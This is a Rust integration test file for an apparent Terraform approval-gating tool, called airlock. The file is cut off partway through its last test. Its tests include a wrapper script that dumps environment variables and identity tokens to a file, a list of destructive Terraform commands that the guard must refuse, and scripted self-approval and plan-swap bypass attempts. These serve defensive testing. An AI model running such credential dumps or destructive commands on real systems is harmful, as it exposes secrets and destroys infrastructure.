//! Governed runs end to end: agents plan, approvers approve, CI applies exactly the reviewed
//! plan. Real `airlock server`, real `terraform`.

use std::path::Path;
use std::process::{Command, Stdio};

use crate::support::*;

#[test]
fn agent_plans_approver_approves_ci_applies() {
    let t = team("dev/app");
    let ws = Workspace::new(&t.s, "dev/app", &data_resources(3));
    let run = plan(&t, &ws, &t.agent, "dev/app");
    assert_eq!(run_json(&t, &run)["run"]["status"], "needs_approval");
    // Agents and CI cannot approve; nobody can apply before approval.
    assert_eq!(t.s.cli(&t.agent, &["approve", &run]).status.code(), Some(2));
    assert_eq!(t.s.cli(&t.ci, &["approve", &run]).status.code(), Some(2));
    let out = apply(&t, &ws, &t.ci, &run);
    assert!(
        !out.status.success() && text(&out).contains("approval"),
        "{}",
        text(&out)
    );
    t.s.ok(&t.approver, &["approve", &run]);
    // Agents cannot apply even an approved run.
    assert_eq!(apply(&t, &ws, &t.agent, &run).status.code(), Some(2));
    let out = apply(&t, &ws, &t.ci, &run);
    assert!(out.status.success(), "{}", text(&out));
    let v = run_json(&t, &run);
    assert_eq!(v["run"]["status"], "applied");
    let h = history_json(&t, "dev/app");
    assert_eq!(
        h["versions"][0]["run_id"],
        run.as_str(),
        "the state version carries the run id"
    );
    // The run-bound token is revoked once the apply ends.
    let tokens = t.s.tokens();
    let bound: Vec<_> = tokens
        .iter()
        .filter(|x| x["run_id"] == run.as_str())
        .collect();
    assert_eq!(bound.len(), 1);
    assert!(!bound[0]["revoked_at"].is_null());
    // The apply log is kept with the run.
    let audit = t.s.ok(&t.s.admin, &["audit", "--limit", "1000"]);
    for action in [
        "run.create",
        "run.approve",
        "run.apply_start",
        "run.applied",
    ] {
        assert!(audit.contains(action), "{action} missing from audit");
    }
}

#[test]
fn self_approval_and_approval_counts() {
    let t = team("prod/app");
    t.s.ok(
        &t.s.admin,
        &["stack", "settings", "prod/app", "--required-approvals", "2"],
    );
    let ws = Workspace::new(&t.s, "prod/app", &data_resources(1));
    let run = plan(&t, &ws, &t.approver, "prod/app");
    let out = t.s.cli(&t.approver, &["approve", &run]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "self-approval refused: {}",
        text(&out)
    );
    t.s.ok(&t.approver2, &["approve", &run]);
    assert_eq!(
        run_json(&t, &run)["run"]["status"],
        "needs_approval",
        "one of two approvals"
    );
    let out = apply(&t, &ws, &t.ci, &run);
    assert!(!out.status.success());
    t.s.ok(&t.s.admin, &["approve", &run]);
    assert_eq!(run_json(&t, &run)["run"]["status"], "approved");
    assert!(apply(&t, &ws, &t.ci, &run).status.success());
}

#[test]
fn stale_plan_is_refused_and_superseded() {
    let t = team("dev/stale");
    let ws = Workspace::new(&t.s, "dev/stale", &data_resources(1));
    let first = plan(&t, &ws, &t.agent, "dev/stale");
    let second = plan(&t, &ws, &t.agent, "dev/stale");
    t.s.ok(&t.approver, &["approve", &first]);
    t.s.ok(&t.approver, &["approve", &second]);
    assert!(apply(&t, &ws, &t.ci, &first).status.success());
    // Applying one run supersedes every other open run of the stack.
    let out = apply(&t, &ws, &t.ci, &second);
    assert!(!out.status.success(), "{}", text(&out));
    assert_eq!(run_json(&t, &second)["run"]["status"], "superseded");
    // A run made stale by a direct write is refused at apply, and marked superseded.
    ws.write_main(&data_resources(2));
    let third = plan(&t, &ws, &t.agent, "dev/stale");
    t.s.ok(&t.approver, &["approve", &third]);
    ws.write_main(&data_resources(3));
    ws.tf_ok(&t.s.admin, &["init", "-reconfigure"]);
    ws.tf_ok(&t.s.admin, &["apply", "-auto-approve"]);
    ws.write_main(&data_resources(2));
    let out = apply(&t, &ws, &t.ci, &third);
    assert!(
        !out.status.success() && text(&out).contains("stale"),
        "{}",
        text(&out)
    );
    let v = run_json(&t, &third);
    assert_eq!(v["run"]["status"], "superseded");
    assert_eq!(v["current"], false);
}

#[test]
fn destroys_need_confirmation_and_deny_cannot_be_approved() {
    let t = team("dev/destroy");
    let ws = Workspace::new(&t.s, "dev/destroy", &data_resources(3));
    ws.tf_ok(&t.s.admin, &["init"]);
    ws.tf_ok(&t.s.admin, &["apply", "-auto-approve"]);
    ws.write_main(&data_resources(1));
    let run = plan(&t, &ws, &t.agent, "dev/destroy");
    let v = run_json(&t, &run);
    assert_eq!(v["run"]["destroys"].as_array().unwrap().len(), 2);
    let out = t.s.cli(&t.approver, &["approve", &run]);
    assert!(
        !out.status.success() && text(&out).contains("--confirm-destroy 2"),
        "{}",
        text(&out)
    );
    assert!(!t
        .s
        .cli(&t.approver, &["approve", &run, "--confirm-destroy", "1"])
        .status
        .success());
    t.s.ok(&t.approver, &["approve", &run, "--confirm-destroy", "2"]);
    assert!(apply(&t, &ws, &t.ci, &run).status.success());

    // A protected type destroyed without an allow_destroy declaration is denied: not approvable.
    std::fs::write(
        ws.path("airlock.hcl"),
        "protect {\n  types = [\"terraform_data\"]\n}\n",
    )
    .unwrap();
    ws.write_main(&data_resources(0));
    let out = cli_in(
        &t.s,
        &t.agent,
        &ws.dir,
        &["plan", ".", "--stack", "dev/destroy", "--format", "json"],
        &[],
    );
    assert_eq!(
        out.status.code(),
        Some(2),
        "plan exits 2 on deny: {}",
        text(&out)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["run"]["decision"], "deny");
    let denied = v["run"]["id"].as_str().unwrap();
    let out =
        t.s.cli(&t.approver, &["approve", denied, "--confirm-destroy", "1"]);
    assert!(
        !out.status.success() && text(&out).contains("cannot be approved"),
        "{}",
        text(&out)
    );
}

#[test]
fn tampered_artifact_and_changed_checkout_are_refused() {
    let t = team("dev/tamper");
    let ws = Workspace::new(&t.s, "dev/tamper", &data_resources(2));
    let run = plan(&t, &ws, &t.agent, "dev/tamper");
    t.s.ok(&t.approver, &["approve", &run]);
    // A checkout whose inputs differ from the reviewed run's is refused.
    ws.write_main(&data_resources(5));
    let out = apply(&t, &ws, &t.ci, &run);
    assert!(
        !out.status.success() && text(&out).contains("fingerprint"),
        "{}",
        text(&out)
    );
    ws.write_main(&data_resources(2));
    // Someone with database access swaps the stored plan: the apply refuses it.
    swap_run_artifact(&t, &run, "plan.tfplan", b"not the reviewed plan");
    let out = apply(&t, &ws, &t.ci, &run);
    assert!(
        !out.status.success() && text(&out).contains("does not match the approved plan"),
        "{}",
        text(&out)
    );
    assert_eq!(
        history_json(&t, "dev/tamper")["versions"]
            .as_array()
            .unwrap()
            .len(),
        0,
        "nothing applied"
    );
}

#[test]
fn phase_credentials_never_cross() {
    // An OIDC issuer, so that each phase also gets its own identity token (issue 15).
    let t = team_on(TestServer::start_issuer(&[]), "dev/creds");
    let ws = Workspace::new(&t.s, "dev/creds", &data_resources(1));
    std::fs::write(
        ws.path("airlock.hcl"),
        r#"credentials "plan" {
  env_from = ["PLAN_ROLE"]
  oidc {
    audience     = "sts.amazonaws.com"
    aws_role_arn = "arn:aws:iam::1:role/app-plan"
  }
}
credentials "apply" {
  env_from = ["APPLY_ROLE"]
  oidc {
    audience              = "sts.amazonaws.com"
    aws_role_arn          = "arn:aws:iam::1:role/app-apply"
    gcp_workload_provider = "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/airlock"
    ttl_seconds           = 900
  }
}
"#,
    )
    .unwrap();
    // A terraform wrapper that records the environment of every invocation, and the identity
    // token file it was given: its mode, its directory's mode, its content.
    let rec = ws.dir.parent().unwrap().join("env-record");
    let wrapper = ws.dir.parent().unwrap().join("tf-wrapper.sh");
    std::fs::write(
        &wrapper,
        format!(
            "#!/bin/sh\n{{ echo \"=== $1\"; env; f=\"$AWS_WEB_IDENTITY_TOKEN_FILE\"; echo \"TOKEN_MODES=$(stat -c %a \"$f\") $(stat -c %a \"$(dirname \"$f\")\")\"; echo \"TOKEN_JWT=$(cat \"$f\")\"; }} >> '{}'\nexec '{}' \"$@\"\n",
            rec.display(),
            terraform_bin_path()
        ),
    )
    .unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let env = [
        ("PLAN_ROLE", "arn:plan"),
        ("APPLY_ROLE", "arn:apply"),
        ("AIRLOCK_TERRAFORM_BIN", wrapper.to_str().unwrap()),
        // Ambient cloud credentials never reach a phase with an OIDC profile.
        ("AWS_ACCESS_KEY_ID", "AKIASTATICKEY"),
        ("AWS_ROLE_ARN", "arn:aws:iam::1:role/ambient"),
    ];
    let out = cli_in(
        &t.s,
        &t.agent,
        &ws.dir,
        &["plan", ".", "--stack", "dev/creds", "--format", "json"],
        &env,
    );
    assert!(out.status.success(), "{}", text(&out));
    let run = serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()["run"]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    // The planning environment holds the apply profile: airlock plan says so.
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("holds the apply profile's credentials (APPLY_ROLE)"),
        "{}",
        text(&out)
    );
    let planned = std::fs::read_to_string(&rec).unwrap();
    assert!(planned.contains("=== plan"), "{planned}");
    assert!(planned.contains("PLAN_ROLE=arn:plan"));
    assert!(
        !planned.contains("APPLY_ROLE"),
        "the plan process saw the apply profile"
    );
    assert!(
        !planned.contains("AIRLOCK_TOKEN"),
        "the plan process saw the caller's token"
    );
    assert!(
        !planned.contains(&t.agent),
        "the plan process saw the caller's token value"
    );
    // The plan phase's identity: its own role, a private token file, and a token whose claims
    // say plan (verified independently in it::oidc).
    assert!(
        planned.contains("AWS_ROLE_ARN=arn:aws:iam::1:role/app-plan"),
        "{planned}"
    );
    assert!(!planned.contains("app-apply") && !planned.contains("GOOGLE_APPLICATION_CREDENTIALS"));
    assert!(!planned.contains("AKIASTATICKEY") && !planned.contains("role/ambient"));
    assert!(planned.contains("AWS_ROLE_SESSION_NAME=airlock-plan-dev-creds"));
    assert!(planned.contains("TOKEN_MODES=600 700"), "{planned}");
    let plan_claims = jwt_claims(&planned);
    assert_eq!(plan_claims["sub"], "stack:dev/creds:run_phase:plan");
    assert_eq!(plan_claims["aud"], "sts.amazonaws.com");
    let plan_file = env_value(&planned, "AWS_WEB_IDENTITY_TOKEN_FILE");
    assert!(
        !std::path::Path::new(&plan_file).exists(),
        "the plan's token file outlived the plan"
    );
    std::fs::remove_file(&rec).unwrap();
    t.s.ok(&t.approver, &["approve", &run]);
    let out = cli_in(&t.s, &t.ci, &ws.dir, &["apply", &run], &env);
    assert!(out.status.success(), "{}", text(&out));
    let applied = std::fs::read_to_string(&rec).unwrap();
    assert!(applied.contains("=== apply"), "{applied}");
    assert!(applied.contains("APPLY_ROLE=arn:apply"));
    assert!(
        !applied.contains("PLAN_ROLE"),
        "the apply process saw the plan profile"
    );
    assert!(
        !applied.contains(&t.ci),
        "the apply process saw the caller's own token"
    );
    // The apply phase's identity: the apply role, bound to this run and its approved plan.
    assert!(
        applied.contains("AWS_ROLE_ARN=arn:aws:iam::1:role/app-apply"),
        "{applied}"
    );
    assert!(
        !applied.contains("app-plan") && !applied.contains("AKIASTATICKEY"),
        "{applied}"
    );
    assert!(applied.contains("TOKEN_MODES=600 700"), "{applied}");
    let gcp = env_value(&applied, "GOOGLE_APPLICATION_CREDENTIALS");
    assert!(gcp.ends_with("gcp-external-account.json"), "{gcp}");
    let apply_claims = jwt_claims(&applied);
    assert_eq!(apply_claims["sub"], "stack:dev/creds:run_phase:apply");
    assert_eq!(apply_claims["airlock_run_id"], run.as_str());
    assert_eq!(
        apply_claims["airlock_plan_sha256"],
        run_json(&t, &run)["run"]["plan_sha256"]
    );
    let ttl = apply_claims["exp"].as_i64().unwrap() - apply_claims["iat"].as_i64().unwrap();
    assert_eq!(ttl, 900);
    let apply_file = env_value(&applied, "AWS_WEB_IDENTITY_TOKEN_FILE");
    assert_ne!(apply_file, plan_file);
    assert!(!std::path::Path::new(&apply_file).exists());
    assert!(!std::path::Path::new(&gcp).exists());
    // The plan process's backend token was a plan-phase token (agent role: it cannot write),
    // and it ended with the plan.
    let plan_pw = planned
        .lines()
        .find_map(|l| l.strip_prefix("TF_HTTP_PASSWORD="))
        .unwrap()
        .to_owned();
    let out = t.s.cli(&plan_pw, &["whoami"]);
    let said = text(&out);
    assert!(
        !out.status.success() && said.contains("has been revoked"),
        "{said}"
    );
    let id = said
        .split(['(', ')'])
        .find(|w| w.starts_with("tok_"))
        .unwrap_or_else(|| panic!("{said}"));
    let plan_token = t.s.token_where("id", id);
    assert_eq!(plan_token["role"], "agent", "{plan_token}");
}

/// The last value of `NAME=` in an environment record.
fn env_value(record: &str, name: &str) -> String {
    let prefix = format!("{name}=");
    record
        .lines()
        .rev()
        .find_map(|l| l.strip_prefix(&prefix))
        .unwrap_or_else(|| panic!("no {name} in {record}"))
        .to_owned()
}

/// The claims of the last identity token recorded (read, not verified: it::oidc verifies).
fn jwt_claims(record: &str) -> serde_json::Value {
    use base64::Engine;
    let jwt = env_value(record, "TOKEN_JWT");
    let claims = jwt.split('.').nth(1).unwrap();
    let bytes = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(claims)
        .unwrap();
    serde_json::from_slice(&bytes).unwrap()
}

fn terraform_bin_path() -> String {
    let bin = terraform_bin();
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!("command -v {bin}"))
        .output()
        .unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

#[test]
fn run_bound_token_cannot_remove_protected_instances_outside_the_plan() {
    let t = team("dev/bound");
    t.s.ok(
        &t.s.admin,
        &[
            "stack",
            "protect",
            "dev/bound",
            "--address",
            "terraform_data.db",
        ],
    );
    let ws = Workspace::new(&t.s, "dev/bound", "resource \"terraform_data\" \"db\" {\n  input = 1\n}\nresource \"terraform_data\" \"web\" {\n  input = 1\n}\n");
    ws.tf_ok(&t.s.admin, &["init"]);
    ws.tf_ok(&t.s.admin, &["apply", "-auto-approve"]);
    ws.write_main("resource \"terraform_data\" \"db\" {\n  input = 1\n}\nresource \"terraform_data\" \"web\" {\n  input = 2\n}\n");
    let run = plan(&t, &ws, &t.agent, "dev/bound");
    t.s.ok(&t.approver, &["approve", &run]);
    let token = start_apply(&t, &run);
    // With it, a state that drops the protected db (not in the plan) is refused.
    let err = ws.tf_err(&token, &["state", "rm", "terraform_data.db"]);
    assert!(err.contains("403"), "{err}");
    // Nor may it drop an unprotected instance the plan does not delete (it only updates web).
    let err = ws.tf_err(&token, &["state", "rm", "terraform_data.web"]);
    assert!(err.contains("403"), "{err}");
    // It cannot write other stacks, or after the run ends.
    let (code, _) = raw(
        "POST",
        &format!("{}/api/v1/runs/{run}/finish", t.s.url),
        &token,
        br#"{"success":false}"#,
    );
    assert_eq!(code, 200);
    let err = ws.tf_err(&token, &["state", "rm", "terraform_data.web"]);
    assert!(
        err.contains("401") || err.contains("403") || err.contains("lock"),
        "{err}"
    );
    assert_eq!(
        history_json(&t, "dev/bound")["versions"]
            .as_array()
            .unwrap()
            .len(),
        1
    );
}

#[test]
fn guard_shim_allows_reading_and_refuses_changes() {
    let t = team("dev/guard");
    let ws = Workspace::new(&t.s, "dev/guard", &data_resources(1));
    ws.tf_ok(&t.s.admin, &["init"]);
    ws.tf_ok(&t.s.admin, &["apply", "-auto-approve"]);
    let guard_dir = ws.dir.parent().unwrap().join("guard");
    t.s.ok(
        &t.s.admin,
        &["guard", "install", guard_dir.to_str().unwrap()],
    );
    let path = format!("{}:{}", guard_dir.display(), std::env::var("PATH").unwrap());
    let tf = |args: &[&str]| {
        Command::new("terraform")
            .args(args)
            .current_dir(&ws.dir)
            .env("PATH", &path)
            .env("CHECKPOINT_DISABLE", "1")
            .env("TF_CLI_CONFIG_FILE", "/dev/null")
            .env("TF_HTTP_USERNAME", "airlock")
            .env("TF_HTTP_PASSWORD", &t.agent)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    assert!(tf(&["init", "-input=false"]).status.success());
    assert!(tf(&["plan", "-input=false"]).status.success());
    assert!(tf(&["-chdir=.", "validate"]).status.success());
    let listed = tf(&["state", "list"]);
    assert!(
        listed.status.success() && text(&listed).contains("terraform_data.r[0]"),
        "{}",
        text(&listed)
    );
    for args in [
        &["apply", "-auto-approve"][..],
        &["destroy", "-auto-approve"],
        &["state", "rm", "x"],
        &["state", "push", "f"],
        &["import", "a", "b"],
        &["taint", "x"],
        &["force-unlock", "-force", "x"],
        &["-chdir=.", "apply"],
    ] {
        let out = tf(args);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", text(&out));
        assert!(
            text(&out).contains("airlock plan"),
            "{args:?}: {}",
            text(&out)
        );
    }
    // The shim is courtesy; the server is the wall: the real binary with the agent token fails too.
    let err = ws.tf_err(&t.agent, &["apply", "-auto-approve"]);
    assert!(
        err.contains("403") || err.contains("Error acquiring the state lock"),
        "{err}"
    );
}

// ---- identities: one person is one approver (issue 8, item 7) ----

/// An artifact's bytes, as `token` downloads them.
fn artifact(t: &Team, token: &str, run: &str, name: &str) -> Vec<u8> {
    let r = ureq::get(&format!("{}/api/v1/runs/{run}/artifacts/{name}", t.s.url))
        .set("Authorization", &format!("Bearer {token}"))
        .call()
        .unwrap();
    let mut bytes = Vec::new();
    std::io::Read::read_to_end(&mut r.into_reader(), &mut bytes).unwrap();
    bytes
}

/// Mints a plan-phase token for `stack` with `token`: (status, secret).
fn plan_token(t: &Team, token: &str, stack: &str) -> (u16, String) {
    let (code, body) = raw(
        "POST",
        &format!(
            "{}/api/v1/stacks/{}/plan-token",
            t.s.url,
            stack.replace('/', "%2F")
        ),
        token,
        b"{}",
    );
    let secret = serde_json::from_str::<serde_json::Value>(&body)
        .ok()
        .and_then(|v| v["secret"].as_str().map(str::to_owned))
        .unwrap_or(body);
    (code, secret)
}

/// Uploads `template`'s genuine artifacts again as a new run authored by `token`.
fn upload_copy(t: &Team, token: &str, template: &str) -> String {
    use base64::Engine;
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    let run = &run_json(t, template)["run"];
    let body = serde_json::json!({
        "fingerprint": run["fingerprint"],
        "inputs": run["inputs"],
        "planned_dir": run["planned_dir"],
        "terraform_version": run["terraform_version"],
        "planned_lineage": run["planned_lineage"],
        "planned_serial": run["planned_serial"],
        "plan_b64": b64(&artifact(t, &t.s.admin, template, "plan.tfplan")),
        "plan_json_b64": b64(&artifact(t, &t.s.admin, template, "plan.json")),
    });
    let (code, out) = raw(
        "POST",
        &format!(
            "{}/api/v1/stacks/{}/runs",
            t.s.url,
            run["stack"].as_str().unwrap().replace('/', "%2F")
        ),
        token,
        body.to_string().as_bytes(),
    );
    assert_eq!(code, 201, "{out}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    v["run"]["id"].as_str().unwrap().to_owned()
}

#[test]
fn an_approver_cannot_approve_a_run_she_uploaded_with_her_own_plan_token() {
    let t = team("dev/app");
    let ws = Workspace::new(&t.s, "dev/app", &data_resources(1));
    let genuine = plan(&t, &ws, &t.agent, "dev/app");
    // The attack: alice mints a plan-phase token, uploads a run with it (so the run's author is
    // that new token), then approves it with her own token.
    let (code, phase) = plan_token(&t, &t.approver, "dev/app");
    assert_eq!(code, 201, "{phase}");
    let run = upload_copy(&t, &phase, &genuine);
    assert_eq!(run_json(&t, &run)["run"]["author_user"], "alice");
    let out = t.s.cli(&t.approver, &["approve", &run]);
    assert_eq!(out.status.code(), Some(2), "self-approval: {}", text(&out));
    assert!(text(&out).contains("user alice planned"), "{}", text(&out));
    assert_eq!(run_json(&t, &run)["run"]["status"], "needs_approval");
    // Nor can the phase token mint another one to launder the authorship further.
    let (code, msg) = plan_token(&t, &phase, "dev/app");
    assert_eq!(code, 403, "{msg}");
    let out = cli_in(
        &t.s,
        &phase,
        &ws.dir,
        &["plan", ".", "--stack", "dev/app"],
        &[],
    );
    assert!(
        !out.status.success() && text(&out).contains("phase token"),
        "{}",
        text(&out)
    );
    // Another person may approve it.
    t.s.ok(&t.approver2, &["approve", &run]);
    assert_eq!(run_json(&t, &run)["run"]["status"], "approved");
}

#[test]
fn one_person_with_two_approver_tokens_is_one_approver() {
    let t = team("prod/app");
    t.s.ok(
        &t.s.admin,
        &["stack", "settings", "prod/app", "--required-approvals", "2"],
    );
    // The attack: an admin creates two approver tokens for herself and approves twice.
    let mint = |name: &str| {
        let out = t.s.ok(
            &t.s.admin,
            &[
                "token", "create", "--name", name, "--role", "approver", "--user", "admin",
                "--format", "json",
            ],
        );
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v["token"]["user"], "admin");
        v["secret"].as_str().unwrap().to_owned()
    };
    let (first, second) = (mint("me-1"), mint("me-2"));
    let ws = Workspace::new(&t.s, "prod/app", &data_resources(1));
    let run = plan(&t, &ws, &t.agent, "prod/app");
    t.s.ok(&first, &["approve", &run]);
    for same_person in [&second, &t.s.admin] {
        let out = t.s.cli(same_person, &["approve", &run]);
        assert!(!out.status.success(), "second approval: {}", text(&out));
        assert!(
            text(&out).contains("user admin has already approved"),
            "{}",
            text(&out)
        );
    }
    let shown = run_json(&t, &run);
    assert_eq!(shown["run"]["status"], "needs_approval");
    assert_eq!(shown["run"]["approvals"][0]["by_user"], "admin");
    let out = apply(&t, &ws, &t.ci, &run);
    assert!(!out.status.success(), "{}", text(&out));
    // A second person completes it.
    t.s.ok(&t.approver, &["approve", &run]);
    assert_eq!(run_json(&t, &run)["run"]["status"], "approved");
    let out = apply(&t, &ws, &t.ci, &run);
    assert!(out.status.success(), "{}", text(&out));
}

fn git_commit(dir: &Path) -> String {
    let git = |args: &[&str]| {
        let out = Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
            .args(args)
            .current_dir(dir)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {}", text(&out));
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    };
    git(&["init", "-q"]);
    git(&["add", "main.tf", "backend.tf"]);
    git(&["commit", "-q", "-m", "change"]);
    git(&["rev-parse", "HEAD"])
}

fn runs_json(t: &Team, args: &[&str]) -> Vec<String> {
    let mut all = vec!["runs", "--format", "json"];
    all.extend(args);
    let v: serde_json::Value = serde_json::from_str(&t.s.ok(&t.s.admin, &all)).unwrap();
    v["runs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn denied_and_unchanged_runs_say_so_and_wait_for_nobody() {
    let t = team("dev/status");
    let ws = Workspace::new(&t.s, "dev/status", &data_resources(2));
    let first = plan(&t, &ws, &t.agent, "dev/status");
    t.s.ok(&t.approver, &["approve", &first]);
    assert!(apply(&t, &ws, &t.ci, &first).status.success());

    // The same code again changes nothing: nothing to approve or apply.
    let same = plan(&t, &ws, &t.agent, "dev/status");
    let v = run_json(&t, &same);
    assert_eq!(v["run"]["status"], "no_changes");
    assert!(
        v["next"]
            .as_str()
            .unwrap()
            .contains("nothing to approve or apply"),
        "{v}"
    );
    let out = t.s.cli(&t.approver, &["approve", &same]);
    assert!(
        !out.status.success() && text(&out).contains("is no_changes, not waiting for approval"),
        "{}",
        text(&out)
    );

    // A deny is `denied` from the start, and stays unapprovable.
    std::fs::write(
        ws.path("airlock.hcl"),
        "protect {\n  types = [\"terraform_data\"]\n}\n",
    )
    .unwrap();
    ws.write_main(&data_resources(0));
    let denied = plan(&t, &ws, &t.agent, "dev/status");
    let v = run_json(&t, &denied);
    assert_eq!(v["run"]["status"], "denied");
    assert!(v["next"].as_str().unwrap().starts_with("denied by policy"));
    let out =
        t.s.cli(&t.approver, &["approve", &denied, "--confirm-destroy", "2"]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(
        text(&out).contains("a deny cannot be approved"),
        "{}",
        text(&out)
    );
    // Neither is open: an apply on the stack supersedes neither.
    assert_eq!(
        runs_json(&t, &["--stack", "dev/status", "--status", "denied"]),
        [denied]
    );
    assert_eq!(
        runs_json(&t, &["--stack", "dev/status", "--status", "no_changes"]),
        [same]
    );
}

#[test]
fn an_author_withdraws_its_own_open_run_and_nobody_else_can() {
    let t = team("dev/withdraw");
    let ws = Workspace::new(&t.s, "dev/withdraw", &data_resources(1));
    let run = plan(&t, &ws, &t.agent, "dev/withdraw");
    let other_agent = t.s.token("eve", "agent");
    let reader = t.s.token("rita", "reader");
    let out = t.s.cli(&other_agent, &["run", "withdraw", &run]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(
        text(&out).contains("only the author of run"),
        "{}",
        text(&out)
    );
    assert_eq!(
        t.s.cli(&t.approver, &["run", "withdraw", &run])
            .status
            .code(),
        Some(2)
    );
    assert_eq!(
        t.s.cli(&reader, &["run", "withdraw", &run]).status.code(),
        Some(2)
    );
    assert_eq!(run_json(&t, &run)["run"]["status"], "needs_approval");

    // The author withdraws it, even once approved; then nobody can approve or apply it.
    t.s.ok(&t.approver, &["approve", &run]);
    let out = t.s.ok(&t.agent, &["run", "withdraw", &run]);
    assert_eq!(out, format!("withdrew run {run}\n"));
    let v = run_json(&t, &run);
    assert_eq!(v["run"]["status"], "withdrawn");
    assert!(v["run"]["note"]
        .as_str()
        .unwrap()
        .starts_with("withdrawn by its author, bot ("));
    assert!(!apply(&t, &ws, &t.ci, &run).status.success());
    let out = t.s.cli(&t.agent, &["run", "withdraw", &run]);
    assert!(
        !out.status.success() && text(&out).contains("is withdrawn, not open"),
        "{}",
        text(&out)
    );
    let audit = t.s.ok(&t.s.admin, &["audit", "--limit", "1000"]);
    assert!(audit.contains("run.withdraw"), "{audit}");
}

#[test]
fn runs_filter_by_stack_status_author_and_commit() {
    let t = team("dev/one");
    t.s.ok(&t.s.admin, &["stack", "create", "dev/two"]);
    let ws1 = Workspace::new(&t.s, "dev/one", &data_resources(1));
    let commit = git_commit(&ws1.dir);
    let ws2 = Workspace::new(&t.s, "dev/two", &data_resources(1));
    let a = plan(&t, &ws1, &t.agent, "dev/one");
    let b = plan(&t, &ws2, &t.approver, "dev/two");
    let c = plan(&t, &ws2, &t.agent, "dev/two");
    t.s.ok(&t.approver2, &["approve", &b]);

    assert_eq!(runs_json(&t, &[]), [c.as_str(), b.as_str(), a.as_str()]);
    assert_eq!(
        runs_json(&t, &["--stack", "dev/two"]),
        [c.as_str(), b.as_str()]
    );
    assert_eq!(runs_json(&t, &["--status", "approved"]), [b.as_str()]);
    assert_eq!(runs_json(&t, &["--author", "alice"]), [b.as_str()]);
    assert_eq!(
        runs_json(&t, &["--author", "bot"]),
        [c.as_str(), a.as_str()]
    );
    assert_eq!(runs_json(&t, &["--commit", &commit[..8]]), [a.as_str()]);
    assert_eq!(
        runs_json(&t, &["--commit", &commit.to_uppercase()]),
        [a.as_str()]
    );
    assert_eq!(
        runs_json(&t, &["--author", "bot", "--stack", "dev/two"]),
        [c.as_str()]
    );
    assert_eq!(runs_json(&t, &["--limit", "1"]), [c.as_str()]);
    assert!(runs_json(&t, &["--status", "applied"]).is_empty());
    let table = t.s.ok(&t.s.admin, &["runs", "--status", "applied"]);
    assert_eq!(table, "no runs match\n");
    let table = t.s.ok(&t.s.admin, &["runs", "--stack", "dev/one"]);
    assert!(
        table.contains(&commit[..12]) && table.contains("COMMIT"),
        "{table}"
    );

    for (args, message) in [
        (["--status", "done"], "unknown run status \"done\""),
        (["--commit", "xyz"], "commit must be a git commit hash"),
        (["--commit", "abc"], "commit must be a git commit hash"),
    ] {
        let mut all = vec!["runs"];
        all.extend(args);
        let out = t.s.cli(&t.s.admin, &all);
        assert!(
            !out.status.success() && text(&out).contains(message),
            "{args:?}: {}",
            text(&out)
        );
    }
    let long = "x".repeat(201);
    assert!(!t
        .s
        .cli(&t.s.admin, &["runs", "--author", &long])
        .status
        .success());
}

/// `run show` for a run that destroys, replaces, updates and creates on a production stack,
/// planned by an approver from a commit, approved by one of the two approvers it needs.
#[test]
fn run_show_names_where_it_came_from_and_destroys_first() {
    let t = team("dev/unused");
    t.s.ok(
        &t.s.admin,
        &["stack", "create", "prod/show", "--production"],
    );
    let before = "resource \"terraform_data\" \"keep\" {\n  input = \"v1\"\n}\nresource \"terraform_data\" \"gone\" {\n  input = \"x\"\n}\nresource \"terraform_data\" \"swap\" {\n  triggers_replace = \"1\"\n}\n";
    let after = "resource \"terraform_data\" \"keep\" {\n  input = \"v2\"\n}\nresource \"terraform_data\" \"swap\" {\n  triggers_replace = \"2\"\n}\nresource \"terraform_data\" \"new\" {\n  input = \"n\"\n}\n";
    let ws = Workspace::new(&t.s, "prod/show", before);
    let first = plan(&t, &ws, &t.agent, "prod/show");
    let shown = t.s.ok(&t.s.admin, &["run", "show", &first]);
    assert!(shown.contains("against an empty stack"), "{shown}");
    assert!(
        shown.contains("author's user: the token itself")
            && shown.contains("commit: none recorded"),
        "{shown}"
    );
    t.s.ok(&t.approver, &["approve", &first]);
    t.s.ok(&t.approver2, &["approve", &first]);
    assert!(apply(&t, &ws, &t.ci, &first).status.success());

    ws.write_main(after);
    git_commit(&ws.dir);
    let run = plan(&t, &ws, &t.approver, "prod/show");
    t.s.ok(&t.approver2, &["approve", &run, "--confirm-destroy", "2"]);
    let shown = t.s.ok(&t.s.admin, &["run", "show", &run]);
    let mut settings = insta::Settings::clone_current();
    settings.add_filter(r"run_[0-9a-f]+", "[RUN]");
    settings.add_filter(r"tok_[0-9a-z]+", "[TOK]");
    settings.add_filter(r"\b[0-9a-f]{40}\b", "[COMMIT]");
    settings.add_filter(r"\b[0-9a-f]{64}\b", "[SHA256]");
    settings.add_filter(r"\d{4}-\d\d-\d\dT[0-9:.]+Z", "[TIME]");
    settings.add_filter(r"terraform \d+\.\d+\.\d+\S*", "terraform [TF]");
    settings.bind(|| insta::assert_snapshot!("run_show_text", shown));

    // Production stacks take applies from CI only; the refusal says so in words.
    t.s.ok(&t.s.admin, &["approve", &run, "--confirm-destroy", "2"]);
